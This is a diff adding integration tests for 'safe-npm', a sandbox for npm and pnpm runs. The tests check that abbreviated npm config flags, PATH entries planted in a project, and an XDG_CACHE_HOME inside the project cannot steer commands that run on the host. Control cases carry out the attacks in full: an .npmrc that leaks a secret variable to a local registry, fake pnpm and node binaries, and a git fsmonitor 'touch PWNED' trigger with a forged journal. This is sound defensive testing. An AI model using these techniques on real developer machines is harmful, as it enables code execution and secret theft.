@@ -1,0 +1,294 @@
+/**
+ * Host-side steps a sandboxed run must not be able to steer, each attacked for real with a
+ * control that shows the attack works where safe-npm does not stand in the way:
+ *
+ * - a host command's flags: npm expands any unambiguous prefix of a config key (`--userc` is
+ *   `--userconfig`), so a flag outside the short host list sends the command to the sandbox;
+ * - a PATH entry in a project: a bin planted in `node_modules/.bin` must not become the real
+ *   tool (or the `node` it starts) that host commands run;
+ * - `XDG_CACHE_HOME` in the project: a run must not plant a journal that the next run obeys on
+ *   the host (relinking `.git` to a git dir whose fsmonitor `git status` runs).
+ */
+import { execFileSync, spawnSync } from "node:child_process";
+import {
+  chmodSync,
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  readdirSync,
+  realpathSync,
+  writeFileSync,
+} from "node:fs";
+import { join } from "node:path";
+import { execa } from "execa";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, it } from "vitest";
+import { httpServer, type TestServer } from "../unit/network/helpers.js";
+import { makeWorld, type World } from "./world.js";
+
+const unavailable = inject("sandboxUnavailable");
+const TIMEOUT = 240_000;
+
+describe.skipIf(unavailable !== "")("host commands carry only listed flags", () => {
+  let world: World;
+  let registry: TestServer;
+  let nowhere: string;
+  let npmrc: string;
+  const SECRET = "topsecret42";
+
+  beforeAll(async () => {
+    world = makeWorld({ projectInHome: false });
+    registry = await httpServer((_req, res) => {
+      res.statusCode = 404;
+      res.end();
+    });
+    // A directory with no project above, and a planted config elsewhere that leaks a variable.
+    nowhere = join(world.dir, "nowhere");
+    mkdirSync(nowhere);
+    const p7 = join(world.dir, "a4", "p7");
+    mkdirSync(p7, { recursive: true });
+    npmrc = join(p7, ".npmrc");
+    writeFileSync(npmrc, `registry=http://127.0.0.1:${registry.port}/leak-\${MYSECRET}/\n`);
+    writeFileSync(join(world.dir, "empty-npmrc"), "update-notifier=false\n");
+  });
+  afterAll(async () => {
+    await registry?.close();
+    world?.dispose();
+  });
+  afterEach(() => {
+    registry.requests.length = 0;
+  });
+
+  const leaked = (): boolean => registry.requests.some((r) => r.url.includes(SECRET));
+  // A user config naming no registry, so that a global config's registry counts (--globalc).
+  const env = (): Record<string, string> => ({
+    MYSECRET: SECRET,
+    NPM_CONFIG_USERCONFIG: join(world.dir, "empty-npmrc"),
+  });
+
+  it(
+    "control: the real npm expands --userc and --globalc and sends the variable to the registry",
+    async () => {
+      for (const flag of ["--userc", "--globalc"]) {
+        // Not spawnSync: the registry answers from this process's event loop.
+        await execa("npm", ["view", "create-evil", "name", `${flag}=${npmrc}`], {
+          cwd: nowhere,
+          env: { ...world.env, ...env() },
+          extendEnv: false,
+          reject: false,
+          stdin: "ignore",
+        });
+        expect(leaked(), flag).toBe(true);
+        registry.requests.length = 0;
+      }
+    },
+    TIMEOUT,
+  );
+
+  it(
+    "safe-npm does not run them on the host: no request carries the variable",
+    async () => {
+      for (const args of [
+        [`--userc=${npmrc}`],
+        ["--userc", npmrc],
+        [`--globalc=${npmrc}`],
+        [`--userconfi=${npmrc}`],
+      ]) {
+        const r = await world.run(["npm", "view", "create-evil", "name", ...args], {
+          cwd: nowhere,
+          env: env(),
+        });
+        // Sandboxed, which needs a project: there is none here.
+        expect(r.exitCode, r.stderr).toBe(125);
+        expect(r.stderr).toContain("no package.json");
+        expect(leaked(), args.join(" ")).toBe(false);
+      }
+    },
+    TIMEOUT,
+  );
+
+  it(
+    "a listed flag still runs on the host (--registry, --json)",
+    async () => {
+      const r = await world.run(
+        [
+          "npm",
+          "view",
+          "create-evil",
+          "name",
+          "--json",
+          `--registry=http://127.0.0.1:${registry.port}/ok/`,
+        ],
+        { cwd: nowhere, env: env() },
+      );
+      // The registry answers 404: npm's own error, from the host run.
+      expect(r.exitCode).not.toBe(125);
+      expect(registry.requests.map((q) => q.url)).toContain("/ok/create-evil");
+      expect(leaked()).toBe(false);
+    },
+    TIMEOUT,
+  );
+});
+
+describe.skipIf(unavailable !== "")("a PATH entry in a project supplies no host tool", () => {
+  let world: World;
+  let nowhere: string;
+  let tools: string;
+  let pwned: string;
+
+  beforeAll(async () => {
+    world = makeWorld({ projectInHome: false });
+    nowhere = join(world.dir, "nowhere");
+    mkdirSync(nowhere);
+    pwned = join(world.dir, "PWNED");
+    // The "real" pnpm, outside any project.
+    tools = join(world.dir, "tools", "bin");
+    mkdirSync(tools, { recursive: true });
+    writeFileSync(join(tools, "pnpm"), '#!/bin/sh\necho "real-pnpm $*"\n');
+    chmodSync(join(tools, "pnpm"), 0o755);
+    // The plant, by a sandboxed run: a pnpm in node_modules/.bin, and a node in the project's
+    // bin/ (a `node_modules/.bin/node` is moved aside by the after-run check: it shadows a host
+    // command), each marking the host when run there.
+    const bin = (dir: string, name: string): string =>
+      `mkdir -p ${dir} && printf '#!/bin/sh\\necho ${name} >> ${pwned}\\n' > ${dir}/${name} && chmod +x ${dir}/${name}`;
+    const planted = await world.run([
+      "--quiet",
+      "exec",
+      "--",
+      "sh",
+      "-c",
+      `${bin("node_modules/.bin", "pnpm")} && ${bin("bin", "node")}`,
+    ]);
+    expect(planted.exitCode, planted.stderr).toBe(0);
+    expect(existsSync(join(world.project, "node_modules", ".bin", "pnpm"))).toBe(true);
+    expect(existsSync(join(world.project, "bin", "node"))).toBe(true);
+  }, TIMEOUT);
+  afterAll(() => world?.dispose());
+  beforeEach(() => spawnSync("rm", ["-f", pwned]));
+
+  const path = (): string =>
+    `${join(world.project, "node_modules", ".bin")}:${join(world.project, "bin")}:${tools}:${world.env.PATH}`;
+
+  it(
+    "control: with that PATH a plain pnpm, and npm's `env node`, run the planted bins",
+    () => {
+      spawnSync("sh", ["-c", "pnpm --version; npm --version"], {
+        cwd: nowhere,
+        env: { ...world.env, PATH: path() },
+      });
+      expect(existsSync(pwned)).toBe(true);
+      expect(execFileSync("cat", [pwned], { encoding: "utf8" })).toBe("pnpm\nnode\n");
+    },
+    TIMEOUT,
+  );
+
+  it(
+    "safe-npm's host commands run the real pnpm, and npm with the real node",
+    async () => {
+      for (const args of [["--version"], ["config", "set", "foo", "bar"], ["login"]]) {
+        const r = await world.run(["pnpm", ...args], { cwd: nowhere, env: { PATH: path() } });
+        expect(r.exitCode, r.stderr).toBe(0);
+        expect(r.stdout).toContain(`real-pnpm ${args.join(" ")}`);
+      }
+      const npm = await world.run(["npm", "--version"], { cwd: nowhere, env: { PATH: path() } });
+      expect(npm.exitCode, npm.stderr).toBe(0);
+      expect(npm.stdout).toMatch(/^\d+\.\d+\.\d+/);
+      expect(existsSync(pwned)).toBe(false);
+    },
+    TIMEOUT,
+  );
+
+  it(
+    "--verbose names the PATH entry left out",
+    async () => {
+      const r = await world.run(["--verbose", "pnpm", "--version"], {
+        cwd: nowhere,
+        env: { PATH: path() },
+      });
+      expect(r.exitCode, r.stderr).toBe(0);
+      expect(r.stderr).toContain("PATH entry not used on the host");
+      expect(r.stderr).toContain("node_modules");
+      expect(existsSync(pwned)).toBe(false);
+    },
+    TIMEOUT,
+  );
+});
+
+describe.skipIf(unavailable !== "")("XDG_CACHE_HOME inside the project", () => {
+  let world: World;
+  let pwned: string;
+  let cacheInProject: string;
+
+  beforeAll(() => {
+    world = makeWorld({ projectInHome: false });
+    pwned = join(world.dir, "PWNED-journal");
+    cacheInProject = join(world.project, ".cache");
+    world.env.XDG_CACHE_HOME = cacheInProject;
+    // The run's code: a git dir deep in node_modules with an fsmonitor, and a copy of its own
+    // run journal (if it can find one) as that of a killed run that had `.git` as a link there.
+    const root = realpathSync(world.project);
+    writeFileSync(
+      join(world.project, "plant.cjs"),
+      `const fs = require("node:fs");
+const path = require("node:path");
+const crypto = require("node:crypto");
+const g = path.join(${JSON.stringify(root)}, "node_modules/foo/lib/deep/g");
+fs.mkdirSync(path.join(g, "objects"), { recursive: true });
+fs.mkdirSync(path.join(g, "refs"), { recursive: true });
+fs.writeFileSync(path.join(g, "HEAD"), "ref: refs/heads/main\\n");
+fs.writeFileSync(path.join(g, "config"), "[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \\"touch ${pwned}; false\\"\\n");
+const runs = path.join(${JSON.stringify(cacheInProject)}, "safe-npm", "runs");
+const prefix = crypto.createHash("sha256").update(${JSON.stringify(root)}).digest("hex").slice(0, 16);
+let found = 0;
+for (const name of fs.existsSync(runs) ? fs.readdirSync(runs) : []) {
+  if (!name.startsWith(prefix)) continue;
+  const data = JSON.parse(fs.readFileSync(path.join(runs, name), "utf8"));
+  data.topLevel = { names: [".git"], links: [[".git", "node_modules/foo/lib/deep/g"]] };
+  fs.writeFileSync(path.join(runs, prefix + "-999999-1.json"), JSON.stringify(data));
+  found++;
+}
+console.log("journals found: " + found);
+`,
+    );
+  });
+  afterAll(() => world?.dispose());
+
+  it(
+    "keeps journals and homes out of the project, so the next run relinks nothing and git runs no planted code",
+    async () => {
+      const run1 = await world.run(["exec", "--", "node", "plant.cjs"]);
+      expect(run1.exitCode, run1.stderr).toBe(0);
+      const run2 = await world.run(["exec", "--", "true"]);
+      // What a shell prompt does next; its exit status is not the point.
+      spawnSync("git", ["status"], { cwd: world.project, stdio: "ignore" });
+      // The attack: the real .git relinked to the planted git dir, its fsmonitor run by git.
+      expect(existsSync(pwned), run2.stderr).toBe(false);
+      expect(lstatSync(join(world.project, ".git")).isDirectory()).toBe(true);
+      expect(existsSync(join(world.project, ".git.quarantined-by-safe-npm"))).toBe(false);
+      expect(run2.exitCode, run2.stderr).toBe(0);
+      // Why: the journal was never where the run could find it; the cache is elsewhere, said.
+      expect(run1.stdout).toContain("journals found: 0");
+      expect(run1.stderr).toContain("set XDG_CACHE_HOME outside any project");
+      expect(existsSync(join(cacheInProject, "safe-npm"))).toBe(false);
+      // The project's private home and its record, in ~/.cache.
+      expect(readdirSync(join(world.home, ".cache", "safe-npm", "homes")).sort()).toEqual([
+        expect.stringMatching(/^app-[0-9a-f]+$/),
+        expect.stringMatching(/^app-[0-9a-f]+\.json$/),
+      ]);
+    },
+    TIMEOUT,
+  );
+
+  it(
+    "control: the planted git dir runs its fsmonitor once `.git` leads there",
+    () => {
+      const g = join(world.project, "node_modules", "foo", "lib", "deep", "g");
+      expect(existsSync(join(g, "config"))).toBe(true);
+      execFileSync("git", ["--git-dir", g, "--work-tree", world.project, "status"], {
+        cwd: world.project,
+        stdio: "ignore",
+      });
+      expect(existsSync(pwned)).toBe(true);
+    },
+    TIMEOUT,
+  );
+});
